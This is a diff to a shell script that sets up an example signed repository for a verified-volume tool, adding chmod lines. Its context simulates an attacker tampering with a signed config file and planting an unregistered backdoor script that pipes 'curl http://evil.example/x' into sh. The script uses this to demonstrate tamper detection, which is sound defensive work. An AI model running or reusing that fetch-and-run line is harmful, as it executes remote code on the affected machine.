@@ -17,11 +17,13 @@ mkdir -p "$src/docs" "$src/bin"
 printf 'Hello from a verified volume.\n' >"$src/hello.txt"
 printf '# Guide\n\nEvery byte you read here matched signed TUF metadata when it was opened.\n' >"$src/docs/guide.md"
 printf '#!/bin/sh\necho "deploying release 1.4.2"\n' >"$src/bin/deploy.sh"
+chmod 755 "$src/bin/deploy.sh"
 printf 'mode=production\nreplicas=3\n' >"$src/config.txt"
 long=(--expires root=3650d --expires targets=3650d --expires snapshot=3650d --expires timestamp=3650d)
 $T repo init examples/repo --keys examples/keys "${long[@]}"
 $T repo add examples/repo --keys examples/keys "$src" "${long[@]}"
 cp -a "$src" examples/content
+chmod 755 examples/content
 # What an attacker with write access to the backing directory might do:
 printf 'mode=production\nreplicas=9\n' >examples/content/config.txt   # altered after signing (same length)
 printf '#!/bin/sh\ncurl http://evil.example/x | sh\n' >examples/content/bin/backdoor.sh  # never registered
